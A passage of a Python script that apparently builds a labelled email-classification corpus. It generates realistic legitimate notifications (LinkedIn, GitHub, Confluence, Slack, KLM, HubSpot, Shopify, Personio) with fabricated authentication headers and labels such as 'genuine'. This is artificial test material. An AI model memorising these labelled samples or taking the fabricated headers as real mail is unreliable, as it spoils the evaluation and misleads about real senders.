         top, sender, alt(hexs("l9alt", 60), text, html))


def l_linkedin_message() -> None:
    t = when("2025-05-20 08:03:55")
    rcpt = "priya.raman.work@gmail.com"
    mf = f"s-{rnd('l10mf', 40, LOWNUM)}@bounce.linkedin.com"
    thread = "https://www.linkedin.com/comm/messaging/thread/2-" + rnd("l10th", 40, ALNUM) + "==?midToken=AQ" + rnd("l10mt", 20, ALNUM) + "&trk=eml-email_message_v2"
    top = gmail_in(rcpt, t, "108.174.3.209", "mailb-ab.linkedin.com", mf, "pass",
                   [("linkedin.com", "d2048-202308-63", "pass")],
                   ("pass", "p=REJECT", "sp=REJECT", "NONE", "linkedin.com"), "l10")
    text = f"""Laura Mendes sent you a new message

Laura Mendes
Talent Acquisition Lead at Adyen

"Hi Priya, thanks for connecting! We're hiring a Senior Data Analyst for
our Payments Insights team in Amsterdam (hybrid). Would you be open to a
short call this week? Here is the role: https://careers.adyen.com/vacancies"

View message: {thread}

----------------------------------------
This email was intended for Priya Raman (Senior Data Analyst)
Learn why we included this: https://www.linkedin.com/help/linkedin/answer/4788
You are receiving LinkedIn notification emails.
Unsubscribe: https://www.linkedin.com/comm/psettings/email-unsubscribe?lipi={rnd('l10u', 24, ALNUM)}
© 2025 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.
"""
    html = f"""<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f3f2ef;font-family:-apple-system,system-ui,Helvetica,Arial,sans-serif;color:#1d2226">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0">
<table width="512" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:20px 24px"><img src="https://static.licdn.com/aero-v1/sc/h/9ehe6n39fa07dc5edzv0rla4e" width="84" alt="LinkedIn"></td></tr>
<tr><td style="padding:0 24px 12px;font-size:20px;font-weight:600">Laura Mendes sent you a new message</td></tr>
<tr><td style="padding:0 24px"><table cellpadding="0" cellspacing="0"><tr><td><b>Laura Mendes</b><br><span style="color:#666;font-size:14px">Talent Acquisition Lead at Adyen</span></td></tr></table></td></tr>
<tr><td style="padding:14px 24px;font-size:15px;line-height:22px">Hi Priya, thanks for connecting! We're hiring a Senior Data Analyst for our Payments Insights team in Amsterdam (hybrid). Would you be open to a short call this week? Here is the role: careers.adyen.com/vacancies</td></tr>
<tr><td style="padding:10px 24px 24px"><a href="{htmllib.escape(thread)}" style="background:#0a66c2;color:#fff;padding:10px 20px;border-radius:24px;text-decoration:none;font-weight:600">View message</a></td></tr>
<tr><td style="padding:16px 24px;font-size:12px;color:#666;background:#f3f2ef">This email was intended for Priya Raman (Senior Data Analyst)<br><a href="https://www.linkedin.com/help/linkedin/answer/4788" style="color:#666">Learn why we included this.</a><br>You are receiving LinkedIn notification emails. <a href="https://www.linkedin.com/comm/psettings/email-unsubscribe?lipi={rnd('l10u', 24, ALNUM)}" style="color:#666">Unsubscribe</a><br>&copy; 2025 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.</td></tr>
</table></td></tr></table>
<img src="https://www.linkedin.com/emimp/ip_{rnd('l10px', 60, ALNUM)}.gif" width="1" height="1" alt="">
</body></html>
"""
    sender = f"""\
{dkim('linkedin.com', 'd2048-202308-63', 'l10', t, h='subject:mime-version:content-type:to:from:date:message-id:list-unsubscribe:list-unsubscribe-post')}
Date: {rfc(t)}
From: Laura Mendes <messages-noreply@linkedin.com>
Message-ID: <{digits('l10m', 10)}.{digits('l10m2', 5)}.{int(t.timestamp())}{digits('l10m3', 3)}@ltx1-app{digits('l10h', 4)}.prod.linkedin.com>
Subject: Laura sent you a new message
MIME-Version: 1.0
To: Priya Raman <{rcpt}>
X-LinkedIn-Class: INBOX-MESSAGE
X-LinkedIn-Template: email_message_v2
X-LinkedIn-fbl: s-{rnd('l10mf', 40, LOWNUM)}
X-LinkedIn-Id: {rnd('l10id', 10, LOWNUM)}-{rnd('l10id2', 6, LOWNUM)}
List-Unsubscribe: <https://www.linkedin.com/comm/psettings/email-unsubscribe?lipi={rnd('l10u', 24, ALNUM)}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Feedback-ID: email_message_v2:linkedin
"""
    emit("bulk", "linkedin-recruiter-message-notification", "genuine LinkedIn message notification (auth passes for linkedin.com) from a recruiter; linkedin.com and the employer's careers site only",
         top, sender, alt("----=_Part_" + digits("l10b", 7) + "_" + digits("l10b2", 9) + ".1747728235000", text, html))


def l_github_review() -> None:
    t = when("2024-10-30 16:22:07")
    rcpt = "ben.okafor.dev@gmail.com"
    repo = "ben-okafor/tidyflow"
    url = f"https://github.com/{repo}/pull/142#discussion_r{digits('l11d', 10)}"
    mf = f"noreply@github.com"
    top = gmail_in(rcpt, t, "192.30.252.201", "out-18.smtp.github.com", mf, "pass",
                   [("github.com", "pf2023", "pass")], ("pass", "p=REJECT", "sp=REJECT", "NONE", "github.com"), "l11")
    text = f"""@jweber-dev commented on this pull request.

> +    for attempt in range(max_retries):
> +        try:
> +            return self._session.request(method, url, **kwargs)
> +        except requests.ConnectionError:
> +            time.sleep(backoff * 2 ** attempt)

This swallows the last exception: after the final attempt we fall out of
the loop and return None. Could we re-raise on the last iteration, and add
jitter so parallel workers don't retry in lock-step?

--
Reply to this email directly, view it on GitHub:
{url}
You are receiving this because you authored the thread.

Message ID: <{repo}/pull/142/review/{digits('l11r', 10)}@github.com>
"""
    html = f"""<p></p>
<p><b>@jweber-dev</b> commented on this pull request.</p>
<hr>
<p>In <a href="{url}">src/tidyflow/http.py</a>:</p>
<pre style='color:#555'>&gt; +    for attempt in range(max_retries):
&gt; +        try:
&gt; +            return self._session.request(method, url, **kwargs)
&gt; +        except requests.ConnectionError:
&gt; +            time.sleep(backoff * 2 ** attempt)
</pre>
<p dir="auto">This swallows the last exception: after the final attempt we fall out of the loop and return <code>None</code>. Could we re-raise on the last iteration, and add jitter so parallel workers don't retry in lock-step?</p>
<p style="font-size:small;-webkit-text-size-adjust:none;color:#666;">&mdash;<br>Reply to this email directly, <a href="{url}">view it on GitHub</a>, or <a href="https://github.com/notifications/unsubscribe-auth/A{rnd('l11un', 26, UPALNUM)}">unsubscribe</a>.<br>You are receiving this because you authored the thread.<img src="https://github.com/notifications/beacon/A{rnd('l11bc', 60, UPALNUM)}.gif" height="1" width="1" alt=""><span style="color:transparent;font-size:0;display:none;visibility:hidden;overflow:hidden;opacity:0;width:0;height:0;max-width:0;max-height:0;mso-hide:all">Message ID: <span>&lt;{repo}/pull/142/review/{digits('l11r', 10)}</span><span>@</span><span>github</span><span>.</span><span>com&gt;</span></span></p>
"""
    sender = f"""\
{dkim('github.com', 'pf2023', 'l11', t, h='Date:From:Reply-To:To:Cc:In-Reply-To:References:Subject:List-ID:List-Archive:List-Post:List-Unsubscribe:List-Unsubscribe-Post:From')}
Received: from github.com (hubbernetes-node-{hexs('l11n', 6)}.va3-iad.github.net [10.48.140.{digits('l11o', 2)}])
\tby smtp.github.com (Postfix) with ESMTPA id 4XdqKb0ZsLz1XJ
\tfor <{rcpt}>; {rfc(t, 'America/Los_Angeles', seconds=-1)}
Date: {rfc(t, 'America/Los_Angeles', seconds=-2)}
From: Jonas Weber <notifications@github.com>
Reply-To: {repo} <reply+A{rnd('l11rp', 60, UPALNUM)}@reply.github.com>
To: {repo} <tidyflow@noreply.github.com>
Cc: Ben Okafor <{rcpt}>, Author <author@noreply.github.com>
Message-ID: <{repo}/pull/142/review/{digits('l11r', 10)}@github.com>
In-Reply-To: <{repo}/pull/142@github.com>
References: <{repo}/pull/142@github.com>
Subject: Re: [{repo}] Add retry with exponential backoff to HTTP client (PR #142)
Mime-Version: 1.0
List-ID: {repo} <tidyflow.ben-okafor.github.com>
List-Archive: https://github.com/{repo}
List-Post: <mailto:reply+A{rnd('l11rp', 60, UPALNUM)}@reply.github.com>
List-Unsubscribe: <mailto:unsub+A{rnd('l11rp', 60, UPALNUM)}@reply.github.com>,
 <https://github.com/notifications/unsubscribe/A{rnd('l11un', 26, UPALNUM)}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
X-GitHub-Sender: jweber-dev
X-GitHub-Recipient: ben-okafor
X-GitHub-Reason: author
X-Auto-Response-Suppress: All
X-GitHub-Recipient-Address: {rcpt}
"""
    emit("bulk", "github-pull-request-review-comment", "genuine GitHub review-comment notification (auth passes, List-ID, reply address); github.com links only",
         top, sender, alt("--==_mimepart_" + hexs("l11b", 12) + "_" + digits("l11b2", 6), text, html, "7bit", "UTF-8"))


def l_confluence_mention() -> None:
    t = when("2025-01-16 10:48:31")
    rcpt = "yann.quere@kerlann-industries.fr"
    page = "https://kerlann.atlassian.net/wiki/spaces/OPS/pages/" + digits("l12p", 9) + "/Proc+dure+r+ception+quai+3?focusedCommentId=" + digits("l12c", 9) + "&src=mail&src.mail.product=confluence.cloud&src.mail.notification=com.atlassian.confluence.plugins.confluence-mentions-plugin%3Amention-notification"
    mf = f"bounces+{digits('l12mf', 7)}-{hexs('l12mf2', 4)}-{rcpt.replace('@', '=')}@mail-eu.atlassian.net"
    top, bottom = m365_in(rcpt, t, "18.184.203.57", "eu-central-1.smtp-out.atlassian.net", mf, "pass",
                          ("atlassian.net", "pass"), ("pass", "none"), "kerlann.atlassian.net", ("pass", "100"), "l12",
                          ctry="DE", lang="fr", bcl=0)
    text = f"""Erwan Cadiou vous a mentionné sur une page

Procédure réception quai 3

"@Yann Quéré peux-tu valider l'étape 4 (contrôle des scellés) avant qu'on
publie la procédure lundi ?"

Afficher la page : {page}

Cet e-mail vous a été envoyé par Atlassian Confluence.
Gérer les notifications : https://kerlann.atlassian.net/wiki/users/viewmyemailsettings.action
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f4f5f7;font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',Roboto,Helvetica,Arial,sans-serif;color:#172b4d">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:3px">
<tr><td style="padding:20px 30px"><img src="https://wac-cdn.atlassian.com/assets/img/favicons/confluence/favicon-32x32.png" width="24" alt="Confluence" style="vertical-align:middle"> <span style="font-size:14px"><b>Erwan Cadiou</b> vous a mentionné sur une page</span></td></tr>
<tr><td style="padding:0 30px 8px;font-size:20px"><a href="{htmllib.escape(page)}" style="color:#0052cc;text-decoration:none">Procédure réception quai 3</a></td></tr>
<tr><td style="padding:10px 30px"><div style="border-left:3px solid #dfe1e6;padding-left:12px;font-size:14px;line-height:20px"><a href="#" style="color:#0052cc">@Yann Quéré</a> peux-tu valider l'étape 4 (contrôle des scellés) avant qu'on publie la procédure lundi ?</div></td></tr>
<tr><td style="padding:18px 30px"><a href="{htmllib.escape(page)}" style="background:#0052cc;color:#fff;padding:8px 14px;border-radius:3px;text-decoration:none;font-size:14px">Afficher la page</a></td></tr>
<tr><td style="padding:14px 30px 22px;font-size:12px;color:#6b778c;border-top:1px solid #ebecf0">Cet e-mail vous a été envoyé par Atlassian Confluence. <a href="https://kerlann.atlassian.net/wiki/users/viewmyemailsettings.action" style="color:#6b778c">Gérer les notifications</a></td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('atlassian.net', 'smtp-out', 'l12', t, h='From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:List-Unsubscribe')}
Received: from confluence-notifications-{hexs('l12h', 6)} (ip-10-224-41-{digits('l12o', 2)}.eu-central-1.compute.internal [10.224.41.{digits('l12o', 2)}])
\tby eu-central-1.smtp-out.atlassian.net (Postfix) with ESMTP id 4YYq0b2Mjsz6W1
\tfor <{rcpt}>; {rfc(t, seconds=-1)}
From: =?UTF-8?Q?Erwan_Cadiou_=28Confluence=29?= <confluence@kerlann.atlassian.net>
To: {rcpt}
Subject: =?UTF-8?Q?Erwan_Cadiou_vous_a_mentionn=C3=A9_sur_une_page_=3A_Proc=C3=A9dure_r?=
 =?UTF-8?Q?=C3=A9ception_quai_3?=
Date: {rfc(t, seconds=-2)}
Message-ID: <confluence-mention-{digits('l12c', 9)}-{hexs('l12m', 12)}@kerlann.atlassian.net>
MIME-Version: 1.0
Auto-Submitted: auto-generated
X-Atlassian-Mail-Message-Id: {guid('l12am')}
List-Unsubscribe: <https://kerlann.atlassian.net/wiki/users/viewmyemailsettings.action>
"""
    emit("bulk", "confluence-mention-procedure-page-fr", "genuine Confluence mention from the organisation's own Atlassian site (auth passes for atlassian.net); internal page links only",
         top, sender, alt("----=_Part_" + digits("l12b", 6) + "_" + digits("l12b2", 9) + ".1737024511000", text, html), bottom)


def l_slack_digest() -> None:
    t = when("2024-03-27 17:30:04")
    rcpt = "pierre-yves.nicol@kerlann-industries.fr"
    mf = f"bounces-{hexs('l13mf', 24)}@slack-mail.com"
    top, bottom = m365_in(rcpt, t, "54.240.62.11", "a62-11.smtp-out.amazonses.com", mf, "pass",
                          ("slack.com", "pass"), ("pass", "none"), "slack.com", ("pass", "100"), "l13",
                          ctry="US", lang="fr", bcl=2)
    ws = "https://kerlann-ops.slack.com"
    text = f"""Vous avez 3 messages non lus dans l'espace de travail Kerlann Ops

#quai-rennes
Yann Quéré (14:12) : Le camion Le Meur de 14h est décalé à 15h30, je
bascule le quai 3 sur l'enlèvement Biscuiterie Emeraude.

#quai-rennes
Claire Jaouen (15:48) : Rappel : formation cariste jeudi 8h30, salle B.

Message direct
Gaëlle Riou (16:55) : Tu as le chiffrage Routeo pour demain ?

Ouvrir Slack : {ws}/messages

Vous recevez cet e-mail car vous avez des notifications non lues.
Modifier vos préférences : {ws}/account/notifications
Slack Technologies, LLC, 500 Howard Street, San Francisco, CA 94105
"""
    html = f"""<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"></head>
<body style="margin:0;background:#fff;font-family:Slack-Lato,Lato,Helvetica,Arial,sans-serif;color:#1d1c1d">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 0">
<table width="580" cellpadding="0" cellspacing="0">
<tr><td style="padding-bottom:18px"><img src="https://a.slack-edge.com/ad5d6/img/slack_logo_240.png" width="120" alt="Slack"></td></tr>
<tr><td style="font-size:22px;font-weight:bold;padding-bottom:16px">Vous avez 3 messages non lus dans Kerlann Ops</td></tr>
<tr><td style="border:1px solid #ddd;border-radius:8px;padding:16px;font-size:15px;line-height:22px">
<b>#quai-rennes</b><br><b>Yann Quéré</b> <span style="color:#616061">14:12</span><br>Le camion Le Meur de 14h est décalé à 15h30, je bascule le quai 3 sur l'enlèvement Biscuiterie Emeraude.<br><br>
<b>Claire Jaouen</b> <span style="color:#616061">15:48</span><br>Rappel : formation cariste jeudi 8h30, salle B.<br><br>
<b>Message direct</b><br><b>Gaëlle Riou</b> <span style="color:#616061">16:55</span><br>Tu as le chiffrage Routeo pour demain ?</td></tr>
<tr><td style="padding:22px 0"><a href="{ws}/messages" style="background:#611f69;color:#fff;padding:12px 22px;border-radius:4px;text-decoration:none;font-weight:bold">Ouvrir Slack</a></td></tr>
<tr><td style="font-size:12px;color:#616061">Vous recevez cet e-mail car vous avez des notifications non lues. <a href="{ws}/account/notifications" style="color:#616061">Modifier vos préférences</a><br>Slack Technologies, LLC, 500 Howard Street, San Francisco, CA 94105</td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('slack.com', 'google', 'l13', t, h='content-type:mime-version:date:message-id:subject:from:to:list-unsubscribe')}
{dkim('amazonses.com', '224i4yxa5dv7c2xz3womw6peuasteono', 'l13s', t, h='content-type:mime-version:date:message-id:subject:from:to:list-unsubscribe:feedback-id')}
Content-Type: text/plain
MIME-Version: 1.0
Date: {rfc(t)}
Message-ID: <{hexs('l13m', 32)}@slack.com>
Subject: =?UTF-8?Q?[Slack]_Notifications_de_l'espace_de_travail_Kerlann_Ops?=
From: Slack <feedback@slack.com>
To: {rcpt}
List-Unsubscribe: <{ws}/account/notifications>
Feedback-ID: 1.us-east-1.{rnd('l13fb', 43)}=:AmazonSES
X-SES-Outgoing: 2024.03.27-54.240.62.11
X-Slack-Notification: digest
"""
    sender = sender.replace("Content-Type: text/plain\n", "")
    emit("bulk", "slack-unread-digest-kerlann-ops-fr", "Slack unread-messages digest (SES, auth passes for slack.com) from the team's workspace; slack.com links only",
         top, sender, alt("=_" + hexs("l13b", 32), text, html), bottom)


def l_klm_checkin() -> None:
    t = when("2024-06-27 08:05:14")
    rcpt = "marieke.vandenberg@outlook.com"
    mf = f"bounce-{digits('l14mf', 4)}_HTML-{digits('l14mf2', 9)}-{digits('l14mf3', 7)}-{digits('l14mf4', 7)}-{digits('l14mf5', 4)}@bounce.info.klm.com"
    click = "https://click.info.klm.com/?qs=" + hexs("l14c", 160)
    top, bottom = m365_in(rcpt, t, "13.111.94.57", "mta2.info.klm.com", mf, "pass",
                          ("info.klm.com", "pass"), ("pass", "none"), "info.klm.com", ("pass", "100"), "l14",
                          ctry="US", lang="nl", consumer=True, bcl=3)
    text = f"""KLM

Check nu in voor uw vlucht naar Lissabon

Beste mevrouw Van den Berg,

Inchecken voor uw vlucht is nu mogelijk.

KL1691 · zaterdag 29 juni 2024
Amsterdam (AMS) 10:05 → Lissabon (LIS) 12:00
Boekingscode: RX7K2Q

Inchecken: {click}

Tip: met de KLM-app heeft u uw instapkaart altijd bij de hand.

Dit is een automatisch bericht; u kunt hier niet op antwoorden.
KLM Royal Dutch Airlines, Amsterdamseweg 55, 1182 GP Amstelveen
"""
    html = f"""<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f1f1f1;font-family:Universal Sans,Arial,sans-serif;color:#003145">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#00a1de;padding:18px 24px"><span style="color:#fff;font-size:26px;font-weight:bold">KLM</span></td></tr>
<tr><td style="padding:24px 24px 6px;font-size:24px;font-weight:bold">Check nu in voor uw vlucht naar Lissabon</td></tr>
<tr><td style="padding:8px 24px;font-size:15px">Beste mevrouw Van den Berg,<br><br>Inchecken voor uw vlucht is nu mogelijk.</td></tr>
<tr><td style="padding:12px 24px"><table width="100%" cellpadding="8" style="background:#e5f5fc;font-size:15px"><tr><td><b>KL1691</b> &middot; zaterdag 29 juni 2024<br>Amsterdam (AMS) 10:05 &rarr; Lissabon (LIS) 12:00<br>Boekingscode: <b>RX7K2Q</b></td></tr></table></td></tr>
<tr><td style="padding:18px 24px"><a href="{click}" style="background:#e37222;color:#fff;padding:12px 30px;text-decoration:none;font-weight:bold;border-radius:2px">Inchecken</a></td></tr>
<tr><td style="padding:6px 24px 20px;font-size:14px">Tip: met de KLM-app heeft u uw instapkaart altijd bij de hand.</td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#6d6d6d;background:#f8f8f8">Dit is een automatisch bericht; u kunt hier niet op antwoorden.<br>KLM Royal Dutch Airlines, Amsterdamseweg 55, 1182 GP Amstelveen &middot; <a href="https://www.klm.nl/information/legal/privacy" style="color:#6d6d6d">Privacy</a></td></tr>
</table></td></tr></table>
<img src="https://click.info.klm.com/open.aspx?ffcb10-{hexs('l14o', 80)}" width="1" height="1" alt="">
</body></html>
"""
    sender = f"""\
{dkim('info.klm.com', '200608', 'l14', t, h='From:To:Subject:Date:List-Unsubscribe:List-Unsubscribe-Post:MIME-Version:Reply-To:Message-ID:Content-Type')}
Received: by mta2.info.klm.com id h{rnd('l14id', 12, LOWNUM)} for <{rcpt}>; {rfc(t, 'America/Chicago', seconds=-1)}
From: "KLM" <noreply@info.klm.com>
To: <{rcpt}>
Subject: Check nu in voor uw vlucht naar Lissabon
Date: {rfc(t, 'America/Chicago', seconds=-2)}
List-Unsubscribe: <https://click.info.klm.com/subscription_center.aspx?jwt={rnd('l14j', 80, ALNUM)}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0
Reply-To: "KLM" <reply-{hexs('l14r', 20)}@info.klm.com>
x-job: {digits('l14x', 7)}_{digits('l14x2', 7)}
Message-ID: <{guid('l14m')}@atl1s07mta2049.xt.local>
"""
    emit("bulk", "klm-check-in-reminder-sfmc-nl", "KLM check-in reminder through Salesforce Marketing Cloud (auth passes for info.klm.com): flight and booking code, click-tracked klm.com links",
         top, sender, alt(rnd("l14b", 36, ALNUM), text, html), bottom)


def l_hubspot_webinar() -> None:
    t = when("2025-04-08 09:00:41")
    rcpt = "pierre-yves.nicol@kerlann-industries.fr"
    mf = f"1axbtvtq{rnd('l15mf', 12, LOWNUM)}@bf06x.hubspotemail.net"
    click = "https://d2Ab4v04.eu1.hubspotlinks.com/Ctc/2L+113/d2Ab4v04/VX" + rnd("l15c", 90, ALNUM + "-_")
    top, bottom = m365_in(rcpt, t, "143.244.80.201", "bf06x.hubspotemail.net", mf, "pass",
                          ("scforum-europe.com", "pass"), ("pass", "none"), "scforum-europe.com", ("pass", "100"), "l15",
                          ctry="US", lang="en", bcl=4)
    text = f"""Supply Chain Forum Europe - Webinar

Nearshoring and the new EU corridor map: what changes for 3PLs

Thursday 24 April 2025 · 14:00-15:00 CET · online, free for members

Speakers:
- Marta Kowalczyk, Head of Network Design, Baltic Rail Logistics
- Julien Morvan, Director, Port of Brest Logistics Cluster

Register: {click}

You receive this e-mail as a member of Supply Chain Forum Europe.
Supply Chain Forum Europe asbl, Rue de la Loi 42, 1040 Brussels
Unsubscribe: https://hs-144870221.s.hubspotemail.net/hs/manage-preferences/unsubscribe?data={rnd('l15u', 60, ALNUM)}
"""
    html = f"""<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#eef2f5;font-family:Arial,Helvetica,sans-serif;color:#1f2d3d">
<div style="display:none;max-height:0;overflow:hidden">24 April, 14:00 CET - free for members</div>
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#0e3a5b;padding:22px 30px;color:#fff;font-size:14px;letter-spacing:1px">SUPPLY CHAIN FORUM EUROPE &middot; WEBINAR</td></tr>
<tr><td style="padding:26px 30px 8px;font-size:24px;font-weight:bold">Nearshoring and the new EU corridor map: what changes for 3PLs</td></tr>
<tr><td style="padding:6px 30px;font-size:15px;color:#52606d">Thursday 24 April 2025 &middot; 14:00&ndash;15:00 CET &middot; online, free for members</td></tr>
<tr><td style="padding:16px 30px;font-size:15px;line-height:22px"><b>Speakers</b><br>Marta Kowalczyk, Head of Network Design, Baltic Rail Logistics<br>Julien Morvan, Director, Port of Brest Logistics Cluster</td></tr>
<tr><td style="padding:10px 30px 28px"><a href="{click}" style="background:#f28c28;color:#fff;padding:12px 30px;text-decoration:none;font-weight:bold;border-radius:3px">Register</a></td></tr>
<tr><td style="padding:18px 30px;font-size:11px;color:#7b8794;background:#f7f9fa">You receive this e-mail as a member of Supply Chain Forum Europe.<br>Supply Chain Forum Europe asbl, Rue de la Loi 42, 1040 Brussels<br><a href="https://hs-144870221.s.hubspotemail.net/hs/manage-preferences/unsubscribe?data={rnd('l15u', 60, ALNUM)}" style="color:#7b8794">Unsubscribe</a> &middot; <a href="https://hs-144870221.s.hubspotemail.net/hs/manage-preferences/summary?data={rnd('l15u2', 60, ALNUM)}" style="color:#7b8794">Manage preferences</a></td></tr>
</table></td></tr></table>
<img src="https://d2Ab4v04.eu1.hubspotlinks.com/Cto/2L+113/d2Ab4v04/R5R8b{rnd('l15o', 60, ALNUM)}" width="1" height="1" alt="" style="display:none!important">
</body></html>
"""
    sender = f"""\
{dkim('scforum-europe.com', 'hs1-144870221', 'l15', t, h='Content-Type:Content-Transfer-Encoding:MIME-Version:Subject:To:From:Date:Message-ID:List-Unsubscribe:List-Unsubscribe-Post')}
{dkim('hubspotemail.net', 'hs1', 'l15h', t, h='Content-Type:Content-Transfer-Encoding:MIME-Version:Subject:To:From:Date:Message-ID:List-Unsubscribe:List-Unsubscribe-Post')}
Received: by 172.16.250.12 with SMTP id {rnd('l15sm', 12, LOWNUM)}mrr{digits('l15sm2', 6)}ltb;
        {rfc(t, 'America/New_York', seconds=-1)}
MIME-Version: 1.0
Subject: Webinar 24 April: Nearshoring and the new EU corridor map
To: {rcpt}
From: Supply Chain Forum Europe <events@scforum-europe.com>
Date: {rfc(t)}
Message-ID: <{digits('l15m', 13)}.{hexs('l15m2', 8)}@bf06x.hubspotemail.net>
List-Unsubscribe: <mailto:1axbtvtq{rnd('l15mf', 12, LOWNUM)}-unsubscribe@bf06x.hubspotemail.net>, <https://hs-144870221.s.hubspotemail.net/hs/manage-preferences/unsubscribe-all?data={rnd('l15u3', 40, ALNUM)}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
X-HubSpot-MID: {digits('l15hm', 12)}
X-Report-Abuse-To: abuse@hubspot.com
"""
    emit("bulk", "hubspot-webinar-invitation-industry-forum", "industry association's webinar invitation through HubSpot (auth passes for its own domain), hubspotlinks tracking like the DHL phish but no login or payment",
         top, sender, alt("----=_Part_" + digits("l15b", 7) + "_" + digits("l15b2", 9) + ".1744102841000", text, html), bottom)


def l_shopify_order_shipped() -> None:
    t = when("2024-11-29 16:44:02")
    rcpt = "famille.lebris@orange.fr"
    mf = f"bounces+{digits('l16mf', 8)}@email.shopify.com"
    track = "https://www.laposte.fr/outils/suivre-vos-envois?code=6A24817730519"
    order = "https://maisonkerbrat.fr/account/orders/" + hexs("l16o", 32)
    top = orange_in(rcpt, t, "23.227.38.42", "mail-out-38-42.shopifyemail.com", mf, "pass",
                    ("maisonkerbrat.fr", "pass"), "pass", "maisonkerbrat.fr", "l16")
    text = f"""MAISON KERBRAT

Votre commande est en route

Commande n° 1287

Bonne nouvelle : votre commande a été expédiée avec Colissimo.
Numéro de suivi : 6A24817730519
Suivre le colis : {track}

Articles expédiés
- Caramel au beurre salé, pot 220 g × 2 — 15,80 €
- Coffret galettes pur beurre × 1 — 18,50 €
Livraison : 6,90 €
Total : 41,20 €

Voir votre commande : {order}

Des questions ? Répondez à cet e-mail ou écrivez à boutique@maisonkerbrat.fr
Maison Kerbrat, 7 rue du Port, 29900 Concarneau
"""
    html = f"""<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"></head>
<body style="margin:0;background:#fff;font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',Roboto,Helvetica,Arial,sans-serif;color:#333">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="560" cellpadding="0" cellspacing="0">
<tr><td style="padding:30px 0 20px;font-size:22px;letter-spacing:2px;font-weight:bold">MAISON KERBRAT<span style="float:right;font-size:14px;color:#999;font-weight:normal;letter-spacing:0">Commande n° 1287</span></td></tr>
<tr><td style="font-size:24px;padding-bottom:12px">Votre commande est en route</td></tr>
<tr><td style="font-size:16px;color:#777;line-height:150%">Bonne nouvelle : votre commande a été expédiée avec Colissimo.<br>Numéro de suivi : <a href="{track}" style="color:#1b6f85">6A24817730519</a></td></tr>
<tr><td style="padding:20px 0"><a href="{order}" style="background:#1b6f85;color:#fff;padding:16px 24px;border-radius:4px;text-decoration:none;font-size:16px">Voir votre commande</a> &nbsp; ou <a href="https://maisonkerbrat.fr" style="color:#1b6f85">Visiter notre boutique</a></td></tr>
<tr><td style="border-top:1px solid #e5e5e5;padding:18px 0;font-size:15px;line-height:24px"><b>Articles expédiés</b><br>Caramel au beurre salé, pot 220 g &times; 2 &mdash; 15,80&nbsp;&euro;<br>Coffret galettes pur beurre &times; 1 &mdash; 18,50&nbsp;&euro;<br>Livraison : 6,90&nbsp;&euro;<br><b>Total : 41,20&nbsp;&euro;</b></td></tr>
<tr><td style="border-top:1px solid #e5e5e5;padding:18px 0;font-size:14px;color:#999">Des questions ? Répondez à cet e-mail ou écrivez à <a href="mailto:boutique@maisonkerbrat.fr" style="color:#1b6f85">boutique@maisonkerbrat.fr</a><br>Maison Kerbrat, 7 rue du Port, 29900 Concarneau</td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('maisonkerbrat.fr', 'shopify2', 'l16', t, h='from:reply-to:subject:to:date:message-id:mime-version:content-type')}
{dkim('shopifyemail.com', 's1', 'l16s', t, h='from:reply-to:subject:to:date:message-id:mime-version:content-type')}
Received: from shopify.com (unknown [10.120.3.{digits('l16o2', 2)}])
\tby mail-out-38-42.shopifyemail.com (Postfix) with ESMTP id 4Y0RZl1Q8Xz5R
\tfor <{rcpt}>; {rfc(t, seconds=-1)}
From: Maison Kerbrat <boutique@maisonkerbrat.fr>
Reply-To: boutique@maisonkerbrat.fr
Subject: =?UTF-8?Q?Une_exp=C3=A9dition_de_la_commande_n=C2=B0_1287_est_en_route?=
To: {rcpt}
Date: {rfc(t, 'Europe/Paris', seconds=-2)}
Message-ID: <{guid('l16m')}@shopify.com>
MIME-Version: 1.0
X-Shopify-Shop-Id: {digits('l16sh', 11)}
X-Shopify-Email-Template: shipping_confirmation
"""
    emit("bulk", "shopify-shop-shipping-confirmation-colissimo-fr", "a small shop's Shopify shipping confirmation (auth passes for the shop's domain): real order lines, Colissimo tracking on laposte.fr, links to the shop",
         top, sender, alt("--==_mimepart_" + hexs("l16b", 12) + "_" + digits("l16b2", 6), text, html))


def l_personio_payslip() -> None:
    t = when("2025-02-28 16:02:19")
    rcpt = "gaelle.riou@kerlann-industries.fr"
    mf = f"0102019{hexs('l17mf', 9)}-{guid('l17mf2')}-000000@mail.personio.de"
    link = "https://kerlann-industries.personio.de/my-desk/documents?category=payslips"
    top, bottom = m365_in(rcpt, t, "54.240.5.102", "a5-102.smtp-out.eu-west-1.amazonses.com", mf, "pass",
                          ("personio.de", "pass"), ("pass", "none"), "personio.de", ("pass", "100"), "l17",
